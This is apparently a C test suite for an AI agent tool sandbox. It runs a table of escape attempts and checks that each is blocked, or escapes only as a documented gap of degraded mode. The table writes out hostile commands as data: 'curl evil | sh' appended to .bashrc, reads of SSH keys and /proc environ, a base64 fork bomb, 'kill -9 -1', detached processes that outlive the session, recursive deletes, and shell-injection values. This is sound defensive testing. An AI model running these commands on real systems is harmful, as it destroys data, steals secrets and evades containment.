/* The escape suite (RELIABILITY.md §2 D1-D16, E1-E4; issue 6): every
 * attempt a tool could make to get out, each one its own ctest case in
 * bwrap mode (escape_<id>: must be blocked) and in degraded mode
 * (escape_degraded_<id>: must be blocked unless the table lists it as a
 * known gap of that mode; gaps that are dangerous to try without the
 * outer layer, such as `kill -9 -1` and a fork bomb, are not run there).
 * sandbox_escape_report prints the table with the degraded gaps.
 *
 * After every attempt, whatever it was, these hold (the global oracles):
 * out/canary still reads "original\n" with mode 0644, out/ holds nothing
 * else, the tool's output contains none of the three secret canaries of
 * the host environment nor the file canaries, no connection reached the
 * loopback listeners, and the bash blocklist was not what stopped a bash
 * attempt (the commands are written to pass it: containment is the OS
 * sandbox's job). */
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "test.h"
#include "tools/clitool.h"
#include "unit/sandbox/sbx.h"

enum {
  C_ERR = 1 << 0,     /* the result is an error */
  C_NOFILE = 1 << 1,  /* path `arg` does not exist afterwards */
  C_ABSENT = 1 << 2,  /* `text` is not in the output */
  C_HAS = 1 << 3,     /* `text` is in the output */
  C_EQ = 1 << 4,      /* the output is exactly `text` */
  C_NOPROC = 1 << 5,  /* no process with the mark is left */
  C_MAXSIZE = 1 << 6, /* `arg` is absent or at most 16 MiB */
  C_SAME = 1 << 7,    /* file `arg` still holds "orig\n" */
  C_SENTINEL = 1 << 8, /* a host process started before is still alive */
  C_KEEP = 1 << 9,     /* path `arg` still exists */
  /* path `arg` is absent, or the project's trust (given before the
   * attempt) no longer holds: project trust is bound to the content of
   * tools.d/ and .agentloop/ (src/tools/trust.c), which get no
   * placeholder, so a file a tool makes there is never trusted */
  C_UNTRUSTED = 1 << 10
};

enum {
  F_GAP = 1 << 0,    /* a known gap of degraded mode */
  F_NORUN = 1 << 1,  /* ... too dangerous to try there */
  F_TOOLSD = 1 << 2, /* ws/tools.d exists before */
  F_NOGIT = 1 << 3,  /* ws/.git does not exist before */
  F_HL = 1 << 4,     /* ws/hl is a hard link to out/canary */
  F_TRUSTED = 1 << 5 /* the project is trusted before (trust.c) */
};

typedef struct attempt_s {
  const char *id;
  const char *tool;
  const char *input; /* JSON, with ${...} placeholders */
  int checks;
  const char *arg;  /* a path, with placeholders */
  const char *text; /* a string, with placeholders */
  int flags;
  const char *why; /* degraded gap: which protection is missing */
  /* degraded gap: part of the oracle's verdict it must give there (the
   * escape as it happens today); a change either way fails the test */
  const char *gap_outcome;
} attempt_t;

#define SH(cmd) "{\"command\": \"" cmd "\"}"

static const attempt_t k_attempts[] = {
    /* ---- D3: paths given to the file tools ---------------------------- */
    {"rf_dotdot", "read_file", "{\"path\": \"../out/canary\"}",
     C_ERR | C_ABSENT, NULL, "original", 0, NULL},
    {"rf_absolute_outside", "read_file", "{\"path\": \"${OUT}/canary\"}",
     C_ERR | C_ABSENT, NULL, "original", 0, NULL},
    {"rf_double_slash", "read_file", "{\"path\": \"/${OUT}//canary\"}",
     C_ERR | C_ABSENT, NULL, "original", 0, NULL},
    {"rf_dot_segments", "read_file",
     "{\"path\": \"${WS}/./.././out/./canary\"}", C_ERR | C_ABSENT, NULL,
     "original", 0, NULL},
    {"ld_trailing_slash_outside", "list_directory",
     "{\"path\": \"${OUT}/\"}", C_ERR | C_ABSENT, NULL, "canary", 0, NULL},
    {"rf_proc_self_cwd", "read_file",
     "{\"path\": \"/proc/self/cwd/../out/canary\"}", C_ERR | C_ABSENT, NULL,
     "original", 0, NULL},
    {"rf_proc_self_root", "read_file",
     "{\"path\": \"/proc/self/root${OUT}/canary\"}", C_ERR | C_ABSENT, NULL,
     "original", 0, NULL},
    {"rf_embedded_nul", "read_file", "{\"path\": \"file.txt\\u0000x\"}",
     C_ERR | C_ABSENT, NULL, "inside", 0, NULL},
    {"rf_denied_path", "read_file", "{\"path\": \"secret/key\"}",
     C_ERR | C_ABSENT, NULL, SBX_DENIED_CANARY, 0, NULL},
    {"ld_denied_path", "list_directory", "{\"path\": \"secret\"}",
     C_ERR | C_ABSENT, NULL, "key", 0, NULL},
    {"wf_dotdot", "write_file",
     "{\"path\": \"../out/pwned\", \"content\": \"x\"}", C_ERR | C_NOFILE,
     "${OUT}/pwned", NULL, 0, NULL},
    {"wf_absolute_outside", "write_file",
     "{\"path\": \"${OUT}/pwned\", \"content\": \"x\"}", C_ERR | C_NOFILE,
     "${OUT}/pwned", NULL, 0, NULL},
    {"wf_proc_self_root", "write_file",
     "{\"path\": \"/proc/self/root${OUT}/pwned\", \"content\": \"x\"}",
     C_ERR | C_NOFILE, "${OUT}/pwned", NULL, 0, NULL},
    {"wf_denied_path_S6_11", "write_file",
     "{\"path\": \"secret/new\", \"content\": \"x\"}", C_ERR | C_NOFILE,
     "${WS}/secret/new", NULL, 0, NULL},
    {"wf_proc_self_root_bash", "bash",
     SH("echo pwned > /proc/self/root${OUT}/pwned"), C_NOFILE,
     "${OUT}/pwned", NULL, 0, NULL},
    /* ---- D4: symlinks ------------------------------------------------- */
    {"rf_symlink_file_S6_12", "read_file", "{\"path\": \"link\"}",
     C_ERR | C_ABSENT, NULL, "original", 0, NULL},
    {"rf_symlink_dir", "read_file", "{\"path\": \"dlink/canary\"}",
     C_ERR | C_ABSENT, NULL, "original", 0, NULL},
    {"rf_symlink_chain", "read_file", "{\"path\": \"l1\"}", C_ERR | C_ABSENT,
     NULL, "original", 0, NULL},
    {"ld_symlink_dir", "list_directory", "{\"path\": \"dlink\"}",
     C_ERR | C_ABSENT, NULL, "canary", 0, NULL},
    {"wf_symlink_target", "write_file",
     "{\"path\": \"link\", \"content\": \"pwned\"}", C_ERR, NULL, NULL, 0,
     NULL},
    {"wf_dangling_symlink", "write_file",
     "{\"path\": \"dangle\", \"content\": \"pwned\"}", C_ERR | C_NOFILE,
     "${OUT}/newfile", NULL, 0, NULL},
    {"wf_symlink_middle", "write_file",
     "{\"path\": \"dlink/pwned\", \"content\": \"x\"}", C_ERR | C_NOFILE,
     "${OUT}/pwned", NULL, 0, NULL},
    /* ---- D6: hard links ----------------------------------------------- */
    {"wf_hardlink", "write_file", "{\"path\": \"hl\", \"content\": \"x\"}",
     C_ERR, NULL, NULL, F_HL, NULL},
    {"sh_hardlink_create", "bash", SH("ln ${OUT}/canary hl2 && echo pwned > hl2"),
     C_NOFILE, "${WS}/hl2", NULL, 0, NULL},
    /* ---- D8: protected paths, also when they do not exist yet --------- */
    {"wf_protected_toolsd", "write_file",
     "{\"path\": \"tools.d/evil.yaml\", \"content\": \"x\"}", C_ERR | C_NOFILE,
     "${WS}/tools.d", NULL, 0, NULL},
    {"wf_protected_git_hooks", "write_file",
     "{\"path\": \".git/hooks/pre-commit\", \"content\": \"x\"}",
     C_ERR | C_NOFILE, "${WS}/.git/hooks", NULL, 0, NULL},
    {"sh_toolsd_new", "bash",
     SH("mkdir -p tools.d; echo 'name: x' > tools.d/evil.yaml"), C_UNTRUSTED,
     "${WS}/tools.d/evil.yaml", NULL, F_TRUSTED, NULL},
    {"sh_toolsd_existing", "bash", SH("echo 'name: x' > tools.d/evil.yaml"),
     C_UNTRUSTED, "${WS}/tools.d/evil.yaml", NULL, F_TOOLSD | F_TRUSTED,
     NULL},
    {"sh_git_hooks_new", "bash",
     SH("mkdir -p .git/hooks; echo 'id' > .git/hooks/pre-commit"), C_NOFILE,
     "${WS}/.git/hooks", NULL, F_GAP, "protected subpaths",
     ".git/hooks exists"},
    {"sh_git_config_existing", "bash",
     SH("echo '[core] pager = evil' > .git/config"), C_SAME,
     "${WS}/.git/config", NULL, F_GAP, "protected subpaths",
     "a protected file was changed"},
    {"sh_git_dir_missing", "bash",
     SH("mkdir -p .git/hooks && echo id > .git/hooks/post-checkout"),
     C_NOFILE, "${WS}/.git", NULL, F_NOGIT | F_GAP, "protected subpaths",
     "/ws/.git exists"},
    {"sh_agentloop_dir", "bash",
     SH("mkdir -p .agentloop && echo x > .agentloop/config.yaml"),
     C_UNTRUSTED, "${WS}/.agentloop/config.yaml", NULL, F_TRUSTED, NULL},
    {"sh_shell_rc_home", "bash", SH("echo 'curl evil | sh' >> $HOME/.bashrc"),
     C_NOFILE, "${HOME}/.bashrc", NULL, 0, NULL},
    {"sh_user_config_toolsd", "bash",
     SH("mkdir -p $HOME/.config/agentloop/tools.d && echo x > "
        "$HOME/.config/agentloop/tools.d/evil.yaml"),
     C_NOFILE, "${HOME}/.config/agentloop/tools.d", NULL, 0, NULL},
    /* ---- D7: writes and changes outside the roots ---------------------- */
    {"sh_write_outside", "bash", SH("echo pwned > ${OUT}/pwned"), C_NOFILE,
     "${OUT}/pwned", NULL, 0, NULL},
    {"sh_rm_outside", "bash", SH("rm -f ${OUT}/canary"), 0, NULL, NULL, 0,
     NULL},
    {"sh_rm_home", "bash", SH("cd && r''m -r -f ./.ssh ./.config"), C_KEEP,
     "${HOME}/.ssh/id_rsa", NULL, 0, NULL},
    {"sh_chmod_outside", "bash", SH("chmod 0666 ${OUT}/canary"), 0, NULL, NULL,
     F_GAP, "Landlock does not cover chmod",
     "out/canary changed mode"},
    {"sh_mkfifo_outside", "bash", SH("mkfifo ${OUT}/fifo"), C_NOFILE,
     "${OUT}/fifo", NULL, 0, NULL},
    {"sh_mknod_device", "bash", SH("mknod ./mem c 1 1"), C_NOFILE,
     "${WS}/mem", NULL, 0, NULL},
    {"sh_symlink_write_through", "bash",
     SH("ln -s ${OUT}/canary sl && echo pwned > sl"), 0, NULL, NULL, 0, NULL},
    {"sh_rename_out", "bash", SH("mv file.txt ${OUT}/moved"), C_NOFILE,
     "${OUT}/moved", NULL, 0, NULL},
    {"sh_no_new_privs_no_caps", "bash",
     SH("grep -E '^(NoNewPrivs|CapEff)' /proc/self/status"), C_HAS, NULL,
     "CapEff:\t0000000000000000\nNoNewPrivs:\t1", 0, NULL},
    /* Every capability set empty, the bounding set included (the warm
     * helper drops that one before its command arrives). */
    {"sh_no_caps_any_set", "bash",
     SH("grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status"), C_HAS,
     NULL,
     "CapInh:\t0000000000000000\nCapPrm:\t0000000000000000\n"
     "CapEff:\t0000000000000000\nCapBnd:\t0000000000000000\n"
     "CapAmb:\t0000000000000000",
     0, NULL},
    {"sh_setuid_copy", "bash",
     SH("cp /bin/sh ./suid && chmod 4755 ./suid && ./suid -c 'grep CapEff "
        "/proc/self/status'"),
     C_HAS, NULL, "CapEff:\t0000000000000000", 0, NULL},
    /* ---- E1-E4: secrets --------------------------------------------------- */
    {"sh_env_allowlist_S6_6", "bash", SH("env"), C_ABSENT, NULL, "E1MARK", 0,
     NULL},
    {"sh_proc_host_environ", "bash", SH("cat /proc/${PID}/environ"), 0, NULL,
     NULL, 0, NULL},
    {"sh_proc_ppid_environ", "bash",
     SH("cat /proc/$PPID/environ; cat /proc/1/environ"), 0, NULL, NULL, 0,
     NULL},
    {"sh_proc_all_environ", "bash",
     SH("cat /proc/[0-9]*/environ | tr '\\\\0' '\\\\n'"), 0, NULL, NULL, 0,
     NULL},
    {"sh_proc_host_visible", "bash", SH("cat /proc/[0-9]*/comm"), C_ABSENT,
     NULL, "al_tests", F_GAP, "PID namespace",
     "'al_tests' is in the output"},
    {"sh_proc_host_maps", "bash", SH("cat /proc/${PID}/maps"), C_ABSENT,
     NULL, "al_tests", 0, NULL},
    {"sh_read_ssh_key", "bash", SH("cat $HOME/.ssh/id_rsa"), 0, NULL, NULL,
     F_GAP, "hidden paths (Landlock restricts writes only)",
     "secret canary FILE-CANARY"},
    {"sh_read_agentloop_config", "bash",
     SH("cat $HOME/.config/agentloop/config.yaml"), 0, NULL, NULL, F_GAP,
     "hidden paths (Landlock restricts writes only)",
     "secret canary FILE-CANARY"},
    {"sh_read_agentloop_state", "bash",
     SH("cat $HOME/.local/state/agentloop/*"), 0, NULL, NULL, F_GAP,
     "hidden paths (Landlock restricts writes only)",
     "secret canary FILE-CANARY"},
    {"sh_read_denied_path", "bash", SH("cat secret/key"), C_ABSENT, NULL,
     SBX_DENIED_CANARY, F_GAP, "hidden paths (Landlock restricts writes only)",
     "'DENIED-CANARY-ECHO-6e1f' is in the output"},
    {"sh_inherited_fds", "bash", SH("ls /proc/self/fd | tr '\\\\n' ' '"),
     C_EQ, NULL, "0 1 2 3 ", 0, NULL},
    {"cli_env_declared_S6_13", "env_tool", "{}", C_HAS, NULL,
     "DEPLOY_TOKEN=tok-declared", 0, NULL},
    /* ---- D10: network and the daemon socket ------------------------------ */
    {"sh_tcp_loopback", "bash",
     SH("bash -c 'echo hi > /dev/tcp/127.0.0.1/${PORT}'"), C_ERR, NULL, NULL,
     0, NULL},
    {"sh_curl_loopback", "bash", SH("curl -s -m 2 http://127.0.0.1:${PORT}/"),
     C_ERR, NULL, NULL, 0, NULL},
    {"cli_curl_no_network", "curl_get",
     "{\"url\": \"http://127.0.0.1:${PORT}/\"}", C_ERR, NULL, NULL, 0, NULL},
    {"sh_daemon_socket", "bash",
     SH("perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die "
        "\\\"socket: $!\\\"; connect(S, pack_sockaddr_un($ARGV[0])) or die "
        "\\\"connect: $!\\\"; print \\\"CONNECTED\\\"' ${SOCK}"),
     C_ERR | C_ABSENT, NULL, "CONNECTED", 0, NULL},
    {"sh_perl_inet", "bash",
     SH("perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0) or die "
        "\\\"socket: $!\\\"; connect(S, sockaddr_in(${PORT}, "
        "inet_aton(\\\"127.0.0.1\\\"))) or die \\\"connect: $!\\\"; print "
        "\\\"CONNECTED\\\"'"),
     C_ERR | C_ABSENT, NULL, "CONNECTED", 0, NULL},
    {"sh_dns_lookup", "bash", SH("getent hosts example.com"), C_ERR, NULL,
     NULL, 0, NULL},
    {"sh_tcp_external", "bash",
     SH("bash -c 'echo hi > /dev/tcp/1.1.1.1/80' && echo CONNECTED"),
     C_ERR | C_ABSENT, NULL, "CONNECTED", 0, NULL},
    {"sh_gdb_attach_host", "bash",
     SH("gdb -p ${PID} -batch -ex 'info proc' 2>&1; true"), C_ABSENT, NULL,
     "al_tests", 0, NULL},
    /* ---- D9 / D12: processes -------------------------------------------- */
    {"sh_kill_all", "bash",
     SH("if [ \\\"$(cat /proc/1/comm)\\\" = bwrap ] && [ $$ -lt 10 ]; then "
        "kill -9 -1; echo after; else echo NO-PID-NAMESPACE; fi"),
     C_HAS | C_SENTINEL, NULL, "after", F_GAP | F_NORUN,
     "PID namespace (Landlock ABI >= 6 scopes signals, not tried)"},
    {"sh_fork_bomb", "bash",
     "{\"command\": \"bash -c \\\"$(echo YigpeyBiIHwgYiAmIH07IGI= | base64 "
     "-d)\\\" ${MARK}\", \"timeout\": 0.5}",
     C_NOPROC | C_SENTINEL, NULL, NULL, F_GAP | F_NORUN,
     "nproc limit (counts the whole uid without a user namespace)"},
    {"sh_double_fork", "bash",
     SH("(bash -c 'exec -a ${MARK} sleep 1000' &) ; echo started"),
     C_NOPROC | C_HAS, NULL, "started", 0, NULL},
    {"sh_setsid_escape", "bash",
     SH("setsid -f bash -c 'exec -a ${MARK} sleep 1000' >/dev/null 2>&1; "
        "echo started"),
     C_NOPROC | C_HAS, NULL, "started", 0, NULL},
    {"sh_nohup_disown", "bash",
     SH("bash -c 'nohup bash -c \\\"exec -a ${MARK} sleep 1000\\\" "
        ">/dev/null 2>&1 & disown; echo started'"),
     C_NOPROC | C_HAS, NULL, "started", 0, NULL},
    {"sh_background_holds_stdout", "bash",
     SH("bash -c 'exec -a ${MARK} sleep 1000' & echo started"),
     C_NOPROC | C_HAS, NULL, "started", 0, NULL},
    {"sh_never_ends_S6_4", "bash",
     "{\"command\": \"bash -c 'exec -a ${MARK} sleep 1000'\", \"timeout\": "
     "0.3}",
     C_ERR | C_NOPROC | C_HAS, NULL, "timed out", 0, NULL},
    {"sh_ignores_term", "bash",
     "{\"command\": \"bash -c 'trap \\\"\\\" TERM; while :; do sleep 0.05; "
     "done; : ${MARK}'\", \"timeout\": 0.3}",
     C_ERR | C_NOPROC | C_HAS, NULL, "timed out", 0, NULL},
    {"sh_find_delete_outside", "bash", SH("find ${OUT} -delete"), 0, NULL,
     NULL, 0, NULL},
    {"sh_perl_rmtree_outside", "bash",
     SH("perl -MFile::Path=remove_tree -e 'remove_tree($ARGV[0])' ${OUT}"), 0,
     NULL, NULL, 0, NULL},
    {"sh_chained_subcommands", "bash",
     SH("true; true; true; true; true; true; true; true; true; true; true; "
        "true; true; true; true; true; true; true; true; true; true; true; "
        "true; true; true; true; true; true; true; true; true; true; true; "
        "true; true; true; true; true; true; true; true; true; true; true; "
        "true; true; true; true; true; true; true; echo x > ${OUT}/pwned"),
     C_NOFILE, "${OUT}/pwned", NULL, 0, NULL},
    /* ---- D14: resources ----------------------------------------------------- */
    {"sh_output_flood_S6_3", "bash",
     SH("head -c 3000000 /dev/zero | tr '\\\\0' a"), C_HAS, NULL,
     "[OUTPUT TRUNCATED: showing 40000 of 3000000 characters from bash]", 0,
     NULL},
    {"sh_stderr_flood", "bash",
     SH("head -c 3000000 /dev/zero | tr '\\\\0' b >&2"), C_HAS, NULL,
     "[OUTPUT TRUNCATED", 0, NULL},
    {"sh_big_file", "bash", SH("head -c 100000000 /dev/zero > big"),
     C_ERR | C_MAXSIZE, "${WS}/big", NULL, 0, NULL},
    {"sh_memory_hog", "bash",
     SH("perl -e '$x = \\\"a\\\" x (3 * 1024 * 1024 * 1024); print "
        "\\\"ALLOCATED\\\"'"),
     C_ERR | C_ABSENT, NULL, "ALLOCATED", 0, NULL},
    {"sh_many_fds", "bash",
     SH("perl -e 'for (1..5000) { open(my $h, \\\"<\\\", \\\"/dev/null\\\") "
        "or die \\\"fd $_: $!\\\"; push @f, $h } print \\\"ALL OPEN\\\"'"),
     C_ERR | C_ABSENT, NULL, "ALL OPEN", 0, NULL},
    /* ---- seccomp -------------------------------------------------------------- */
    {"sh_ptrace", "bash", SH("strace -o /dev/null true"), C_ERR, NULL, NULL,
     0, NULL},
    {"sh_unshare_userns", "bash", SH("unshare -U -r id"), C_ERR, NULL, NULL,
     0, NULL},
    {"sh_mount_tmpfs", "bash",
     SH("mkdir -p m && mount -t tmpfs none m && echo MOUNTED"),
     C_ERR | C_ABSENT, NULL, "MOUNTED", 0, NULL},
    /* ---- D1 / S6.8: shell metacharacters stay literal argv ------------------ */
    {"cli_meta_semicolon", "show", "{\"v\": \"; touch ${OUT}/pwned\"}",
     C_EQ | C_NOFILE, "${OUT}/pwned", "[; touch ${OUT}/pwned]\n", 0, NULL},
    {"cli_meta_pipe", "show", "{\"v\": \"| id\"}", C_EQ, NULL, "[| id]\n", 0,
     NULL},
    {"cli_meta_and", "show", "{\"v\": \"x && touch ${OUT}/pwned\"}",
     C_EQ | C_NOFILE, "${OUT}/pwned", "[x && touch ${OUT}/pwned]\n", 0, NULL},
    {"cli_meta_subst_S6_8", "show", "{\"v\": \"$(touch ${OUT}/pwned)\"}",
     C_EQ | C_NOFILE, "${OUT}/pwned", "[$(touch ${OUT}/pwned)]\n", 0, NULL},
    {"cli_meta_backticks", "show", "{\"v\": \"`id`\"}", C_EQ, NULL,
     "[`id`]\n", 0, NULL},
    {"cli_meta_newline", "show", "{\"v\": \"a\\nrm -rf ~\"}", C_EQ, NULL,
     "[a\nrm -rf ~]\n", 0, NULL},
    {"cli_meta_quotes_glob_home", "show", "{\"v\": \"'\\\"* ~ $HOME\"}", C_EQ,
     NULL, "['\"* ~ $HOME]\n", 0, NULL},
    {"cli_meta_embedded_position", "show_embedded",
     "{\"v\": \"x; id\", \"extra\": \"$(id)\"}", C_EQ, NULL,
     "[--name=x; id]\n[[$(id)]]\n", 0, NULL},
    /* ---- D2 / S6.9: option and template injection --------------------------- */
    {"cli_option_pre", "grep_ws", "{\"pattern\": \"--pre=sh\"}",
     C_ERR | C_HAS, NULL, "must not start with '-'", 0, NULL},
    {"cli_option_file", "grep_ws", "{\"pattern\": \"-f/etc/shadow\"}",
     C_ERR | C_HAS, NULL, "must not start with '-'", 0, NULL},
    {"cli_option_in_optional", "kubectl_get",
     "{\"resource\": \"pods\", \"namespace\": \"--kubeconfig=/x\"}",
     C_ERR | C_HAS, NULL, "does not match pattern", 0, NULL},
    {"cli_enum_injection_S6_9", "kubectl_get",
     "{\"resource\": \"pods; rm -rf ~\"}", C_ERR | C_HAS, NULL,
     "must be one of the enum values", 0, NULL},
    {"cli_unknown_parameter", "show", "{\"v\": \"a\", \"cmd\": \"sh\"}",
     C_ERR | C_HAS, NULL, "unknown parameter 'cmd'", 0, NULL},
    {"cli_nul_in_value", "show", "{\"v\": \"a\\u0000b\"}", C_ERR | C_HAS,
     NULL, "NUL byte", 0, NULL},
};

#define N_ATTEMPTS (sizeof(k_attempts) / sizeof(k_attempts[0]))

static const attempt_t *find_attempt(const char *id) {
  size_t i;

  for (i = 0; i < N_ATTEMPTS; i++) {
    if (strcmp(k_attempts[i].id, id) == 0) {
      return &k_attempts[i];
    }
  }
  AL_TEST_FAIL("no attempt '%s'", id);
  return NULL;
}

static char *file_text(const char *path) {
  size_t n;

  return al_test_read_file(path, &n);
}

static bool exists(const char *path) {
  struct stat st;

  return lstat(path, &st) == 0;
}

/* s with the fixture's base directory replaced by "/" (malloc'd). */
static char *strip_base(const sbx_t *x, const char *s) {
  size_t bl = strlen(x->base);
  const char *b;
  char *copy = strdup(s);
  char *w = copy;

  ASSERT_NOT_NULL(copy);
  while ((b = strstr(s, x->base)) != NULL) {
    memcpy(w, s, (size_t)(b - s));
    w += b - s;
    *w++ = '/';
    s = b + bl;
  }
  strcpy(w, s);
  return copy;
}

/* True when `text` occurs in `out` apart from the fixture's own paths:
 * the random part of the base directory's name (mkdtemp) may spell a
 * canary word such as "key", and an error message naming a path is no
 * leak. Both sides are compared with the base replaced. */
static bool leaked(const sbx_t *x, const char *out, const char *text) {
  char *o = strip_base(x, out);
  char *t = strip_base(x, text);
  bool found = strstr(o, t) != NULL;

  free(o);
  free(t);
  return found;
}

/* Everything that must hold after any attempt. Returns a description of
 * the first violation, or NULL. */
static const char *oracle(sbx_t *x, const attempt_t *a, const char *mark,
                          pid_t sentinel) {
  static char why[512];
  const char *out = x->content != NULL ? x->content : "";
  char p[512];
  struct stat st;
  char *t;
  DIR *d;
  struct dirent *e;
  static const char *const canaries[] = {SBX_CANARY1, SBX_CANARY2,
                                         SBX_CANARY3, SBX_FILE_CANARY, NULL};
  size_t i;

  for (i = 0; canaries[i] != NULL; i++) {
    if (strstr(out, canaries[i]) != NULL) {
      snprintf(why, sizeof(why), "secret canary %s in the output",
               canaries[i]);
      return why;
    }
  }
  snprintf(p, sizeof(p), "%s/canary", x->out);
  t = file_text(p);
  if (t == NULL || strcmp(t, "original\n") != 0) {
    free(t);
    return "out/canary was changed or removed";
  }
  free(t);
  if (stat(p, &st) != 0 || (st.st_mode & 07777) != 0644) {
    return "out/canary changed mode";
  }
  d = opendir(x->out);
  while (d != NULL && (e = readdir(d)) != NULL) {
    if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..") &&
        strcmp(e->d_name, "canary")) {
      snprintf(why, sizeof(why), "out/%s was created", e->d_name);
      closedir(d);
      return why;
    }
  }
  if (d != NULL) {
    closedir(d);
  }
  if (sbx_connections(x) != 0) {
    return "a connection reached a loopback listener";
  }
  if (strcmp(a->tool, "bash") == 0 &&
      strstr(out, "bash safety blocklist") != NULL) {
    return "stopped by the blocklist, not by the sandbox (rewrite it)";
  }
  if ((a->checks & C_ERR) && !x->is_error) {
    return "the result is not an error";
  }
  if ((a->checks & C_KEEP) && !exists(sbx_expand(x, a->arg, mark))) {
    snprintf(why, sizeof(why), "%s was removed", sbx_expand(x, a->arg, mark));
    return why;
  }
  if ((a->checks & C_NOFILE) && exists(sbx_expand(x, a->arg, mark))) {
    snprintf(why, sizeof(why), "%s exists", sbx_expand(x, a->arg, mark));
    return why;
  }
  if ((a->checks & C_UNTRUSTED) && exists(sbx_expand(x, a->arg, mark)) &&
      al__tools_project_trusted(x->ws)) {
    snprintf(why, sizeof(why), "%s exists and the project is still trusted",
             sbx_expand(x, a->arg, mark));
    return why;
  }
  if ((a->checks & C_ABSENT) && leaked(x, out, sbx_expand(x, a->text, mark))) {
    snprintf(why, sizeof(why), "'%s' is in the output",
             sbx_expand(x, a->text, mark));
    return why;
  }
  if ((a->checks & C_HAS) && !strstr(out, sbx_expand(x, a->text, mark))) {
    snprintf(why, sizeof(why), "'%s' is not in the output",
             sbx_expand(x, a->text, mark));
    return why;
  }
  if ((a->checks & C_EQ) && strcmp(out, sbx_expand(x, a->text, mark)) != 0) {
    return "the output differs from the literal value";
  }
  if ((a->checks & C_MAXSIZE) && stat(sbx_expand(x, a->arg, mark), &st) == 0 &&
      st.st_size > (16 << 20)) {
    return "the file grew past the size limit";
  }
  if (a->checks & C_SAME) {
    t = file_text(sbx_expand(x, a->arg, mark));
    if (t == NULL || strcmp(t, "orig\n") != 0) {
      free(t);
      return "a protected file was changed";
    }
    free(t);
  }
  if ((a->checks & C_NOPROC) && !sbx_wait_no_process(x, mark)) {
    return "a process of the tool survived it";
  }
  if ((a->checks & C_SENTINEL) &&
      (kill(sentinel, 0) != 0 || waitpid(sentinel, NULL, WNOHANG) != 0)) {
    return "a host process outside the sandbox was killed";
  }
  return NULL;
}

/* Placeholders left by bwrap for protected paths that did not exist are
 * removed once no sandboxed child runs. */
static void check_placeholders(sbx_t *x, const attempt_t *a) {
  char p[512];

  if (a->checks & C_UNTRUSTED) {
    return; /* the tool may have made them: no placeholders there */
  }
  if (!(a->flags & F_TOOLSD)) {
    snprintf(p, sizeof(p), "%s/tools.d", x->ws);
    ASSERT(!exists(p));
  }
  snprintf(p, sizeof(p), "%s/.agentloop", x->ws);
  ASSERT(!exists(p));
  snprintf(p, sizeof(p), "%s/.bashrc", x->ws);
  ASSERT(!exists(p));
}

static int run_attempt(const char *id, sbx_mode_t mode) {
  const attempt_t *a = find_attempt(id);
  sbx_t x;
  char mark[64];
  char p[512];
  char q[512];
  pid_t sentinel = 0;
  const char *why;

  /* Degraded cases of F_NORUN attempts are not registered at all. */
  ASSERT(!(mode == SBX_DEGRADED && (a->flags & F_NORUN)));
  snprintf(mark, sizeof(mark), "ALMARK%d_%s", (int)getpid(), a->id);
  sbx_init(&x, mode);
  if (a->flags & F_TOOLSD) {
    snprintf(p, sizeof(p), "%s/tools.d", x.ws);
    ASSERT_EQ(mkdir(p, 0755), 0);
  }
  if (a->flags & F_TRUSTED) {
    ASSERT_EQ(al__tools_trust_project(x.ws, NULL), 0);
    ASSERT(al__tools_project_trusted(x.ws));
  }
  if (a->flags & F_NOGIT) {
    snprintf(p, sizeof(p), "rm -rf '%s/.git'", x.ws);
    ASSERT_EQ(system(p), 0);
  }
  if (a->flags & F_HL) {
    snprintf(p, sizeof(p), "%s/canary", x.out);
    snprintf(q, sizeof(q), "%s/hl", x.ws);
    ASSERT_EQ(link(p, q), 0);
  }
  if (a->checks & C_SENTINEL) {
    sentinel = fork();
    ASSERT(sentinel >= 0);
    if (sentinel == 0) {
      execl("/bin/sleep", "sleep", "1000", (char *)NULL);
      _exit(127);
    }
  }
  sbx_call(&x, a->tool, sbx_expand(&x, a->input, mark));
  why = oracle(&x, a, mark, sentinel);
  if (a->flags & F_HL) {
    snprintf(q, sizeof(q), "%s/hl", x.ws);
    unlink(q);
  }
  if (sentinel > 0) {
    kill(sentinel, SIGKILL);
    waitpid(sentinel, NULL, 0);
  }
  if (why == NULL && (a->checks & C_NOPROC) == 0) {
    /* Whatever it started is gone too. */
    if (!sbx_wait_no_process(&x, mark)) {
      why = "a process of the tool survived it";
    }
  }
  if (mode == SBX_DEGRADED && (a->flags & F_GAP)) {
    /* An expected outcome, not a blocked escape: it must escape exactly as
     * documented. Blocked now: the table (and the docs) are out of date;
     * another violation: the gap grew. */
    ASSERT_NOT_NULL(a->gap_outcome);
    if (why == NULL) {
      AL_TEST_FAIL("known degraded gap %s is now blocked: move it out of the "
                   "gaps (table in test_escape.c, escape_ids.h, docs)",
                   a->id);
    }
    if (strstr(why, a->gap_outcome) == NULL) {
      AL_TEST_FAIL("known degraded gap %s escapes differently: wanted '%s', "
                   "got '%s'\noutput: %.2000s",
                   a->id, a->gap_outcome, why,
                   x.content != NULL ? x.content : "");
    }
    printf("%s [degraded]: ESCAPES, as documented (missing: %s): %s\n",
           a->id, a->why, why);
    sbx_finish(&x);
    return 0;
  }
  if (why != NULL) {
    AL_TEST_FAIL("escape attempt %s [%s mode] NOT blocked: %s\noutput: %.2000s",
                 a->id, mode == SBX_BWRAP ? "bwrap" : "degraded", why,
                 x.content != NULL ? x.content : "");
  }
  if (mode == SBX_BWRAP) {
    check_placeholders(&x, a);
  }
  printf("%s [%s]: blocked; output: %.300s\n", a->id,
         mode == SBX_BWRAP ? "bwrap" : "degraded",
         x.content != NULL ? x.content : "");
  sbx_finish(&x);
  return 0;
}

/* The registered cases (escape_ids.h) as kinds, in table order. */
enum { K_ESCAPE, K_GAP, K_GAP_NORUN };
static const struct {
  const char *id;
  int kind;
} k_registered[] = {
#define ESCAPE(id) {#id, K_ESCAPE},
#define GAP(id) {#id, K_GAP},
#define GAP_NORUN(id) {#id, K_GAP_NORUN},
#include "unit/sandbox/escape_ids.h"
#undef ESCAPE
#undef GAP
#undef GAP_NORUN
};

/* The table, the registered ctest cases and docs/sandbox.md agree: every
 * attempt is registered once, in order, as the kind its flags say (a gap
 * run in degraded mode has an expected outcome; a blocked attempt has
 * none), and every degraded gap is named in the docs' gap table. Prints
 * the gaps. */
TEST_IMPL(sandbox_escape_report) {
  size_t i, j;
  size_t gaps = 0;
